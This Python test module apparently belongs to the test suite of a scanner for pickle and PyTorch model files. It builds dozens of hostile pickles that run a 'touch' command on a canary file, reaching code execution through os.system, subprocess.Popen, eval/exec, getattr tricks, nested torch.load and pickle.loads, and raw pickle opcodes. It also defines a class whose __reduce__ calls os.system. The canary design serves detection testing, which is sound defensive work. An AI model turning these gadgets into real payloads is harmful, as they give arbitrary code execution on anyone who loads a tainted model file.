"""Pickles that make a canary file when a real unpickler reads them, by each way there is to reach a function."""

from __future__ import annotations

import pickle
from collections.abc import Callable, Mapping

from tests.hostile.assemble import call, group, legacy, mapping, name_of, text, torch_zip, weights, whole


def _run(command: str) -> bytes:
    return call("posix", "system", text(command))


def _statement(canary: str) -> str:
    return f"open({canary!r}, 'w').close()"


def _instance(cls: tuple[str, str], *arguments: bytes) -> bytes:
    return name_of(*cls) + group(*arguments) + b"\x81"


def _inst(canary: str) -> bytes:
    return b"(" + text(f"touch {canary}") + b"iposix\nsystem\n"


def _obj(canary: str) -> bytes:
    return b"(" + name_of("subprocess", "Popen") + text(f"touch {canary}") + number_zero() + b"N" * 5 + b"NN\x88o"


def number_zero() -> bytes:
    """An int 0, as Popen's bufsize."""
    return b"K\0"


def _newobj(canary: str) -> bytes:
    return _instance(("subprocess", "Popen"), b"](" + text("touch") + text(canary) + b"e")


def _newobj_ex(canary: str) -> bytes:
    arguments = group(b"](" + text("touch") + text(canary) + b"e")
    return name_of("subprocess", "Popen") + arguments + b"}\x92"


def _setstate(canary: str) -> bytes:
    """A BUILD whose object was given ``__setstate__`` by the BUILD before it."""
    namespace = name_of("types", "SimpleNamespace") + b")R"
    given = mapping({text("__setstate__"): name_of("posix", "system")})
    return namespace + given + b"b" + text(f"touch {canary}") + b"b"


def _stack_global(canary: str) -> bytes:
    return text("posix") + text("system") + b"\x93" + group(text(f"touch {canary}")) + b"R"


def _reduced_dict(canary: str) -> bytes:
    """An OrderedDict whose items come from an iterator that calls."""
    mapped = call("builtins", "map", name_of("posix", "system"), b"](" + text(f"touch {canary}") + b"e")
    return call("collections", "OrderedDict", call("builtins", "list", mapped))


def _shell(canary: str) -> bytes:
    return call("subprocess", "Popen", b"](" + text("touch") + text(canary) + b"e")


def _getattr(canary: str) -> bytes:
    function = call("builtins", "getattr", call("builtins", "__import__", text("os")), text("system"))
    return function + group(text(f"touch {canary}")) + b"R"


def _methodcaller(canary: str) -> bytes:
    caller = call("operator", "methodcaller", text("touch"))
    return caller + group(call("pathlib", "PosixPath", text(canary))) + b"R"


def _partial(canary: str) -> bytes:
    return call("functools", "partial", name_of("posix", "system"), text(f"touch {canary}")) + b")R"


def _code(canary: str) -> bytes:
    """A function made from its code object."""
    code = call("builtins", "compile", text(_statement(canary)), text("x"), text("exec"))
    return call("types", "FunctionType", code, mapping({})) + b")R"


def _nested(canary: str) -> bytes:
    """torch.load told to be careless with bytes that hold another pickle."""
    inner = torch_zip(weights(_run(f"touch {canary}")))
    stream = call("io", "BytesIO", b"B" + len(inner).to_bytes(4, "little") + inner)
    return call("torch.serialization", "load", stream, b"N", b"N") + mapping({}) + b"b"


def _loads(canary: str) -> bytes:
    inner = whole(_run(f"touch {canary}"))
    return call("pickle", "loads", b"B" + len(inner).to_bytes(4, "little") + inner)


def _numpy(canary: str) -> bytes:
    loader = call("operator", "methodcaller", text("loads"), text(""))
    return call("numpy.core.multiarray", "_reconstruct", loader, b"K\0\x85", text(canary))


GADGETS: Mapping[str, Callable[[str], bytes]] = {
    "os.system": lambda c: call("os", "system", text(f"touch {c}")),
    "posix.system": lambda c: _run(f"touch {c}"),
    "nt.system": lambda c: call("nt", "system", text(f"touch {c}")),
    "subprocess.Popen": _shell,
    "subprocess.check_output": lambda c: call("subprocess", "check_output", b"](" + text("touch") + text(c) + b"e"),
    "builtins.eval": lambda c: call("builtins", "eval", text(_statement(c))),
    "__builtin__.exec": lambda c: call("__builtin__", "exec", text(_statement(c))),
    "builtins.open": lambda c: call("builtins", "open", text(c), text("w")),
    "builtins.getattr": _getattr,
    "operator.methodcaller": _methodcaller,
    "functools.partial": _partial,
    "types.FunctionType": _code,
    "torch.load": _nested,
    "pickle.loads": _loads,
    "numpy._reconstruct": _numpy,
    "torch.hub.load": lambda c: call("torch.hub", "load", text(c), text("x"), text("local")),
    "torch._inductor": lambda c: call("torch._inductor.codecache", "PyCodeCache.load", text(_statement(c))),
    "torch.jit.load": lambda c: call("torch.jit", "load", text(c)),
    "torch._dynamo": lambda c: call("torch._dynamo.guards", "GuardBuilder.get", text(_statement(c))),
    "torch.serialization.os": lambda c: text("torch.serialization") + text("os.system") + b"\x93"
    + group(text(f"touch {c}")) + b"R",
    "runpy._run_code": lambda c: call("runpy", "_run_code", text(_statement(c)), mapping({})),
    "pty.spawn": lambda c: call("pty", "spawn", b"](" + text("touch") + text(c) + b"e"),
    "timeit.timeit": lambda c: call("timeit", "timeit", text(_statement(c))),
    "code.interact": lambda c: call("code", "InteractiveInterpreter.runcode", b"N", text(_statement(c))),
    "bdb.Bdb": lambda c: call("bdb", "Bdb.run", call("bdb", "Bdb"), text(_statement(c))),
    "shutil.copyfile": lambda c: call("shutil", "copyfile", text("/etc/hostname"), text(c)),
    "webbrowser.open": lambda c: call("webbrowser", "open", text(f"file://{c}")),
    "importlib": lambda c: call("importlib", "import_module", text("antigravity")),
    "ctypes": lambda c: call("ctypes", "CDLL", text(c)),
    "__main__.x": lambda c: call("__main__", "x", text(c)),
    "dotted": lambda c: text("collections") + text("OrderedDict.__init__.__globals__") + b"\x93" + text(c) + b"\x86",
    "OrderedDict": _reduced_dict,
    "GLOBAL": lambda c: name_of("posix", "system"),
    "STACK_GLOBAL": _stack_global,
    "INST": _inst,
    "OBJ": _obj,
    "NEWOBJ": _newobj,
    "NEWOBJ_EX": _newobj_ex,
    "BUILD": _setstate,
}  # fmt: skip
"""By name: a function from the canary's path to a pickled value."""


class Reduced:
    """What pickle's own writer makes of an object with a hostile ``__reduce__``."""

    def __init__(self, canary: str) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str]]:
        import os

        return os.system, (f"touch {self.canary}",)


def plain(canary: str, protocol: int = 4) -> bytes:
    """A pickle that is no torch file."""
    return pickle.dumps({"w": Reduced(canary)}, protocol)


def magic(canary: str) -> bytes:
    """A file with torch's older magic whose second pickle calls."""
    return legacy(weights(), protocol=whole(_run(f"touch {canary}")))
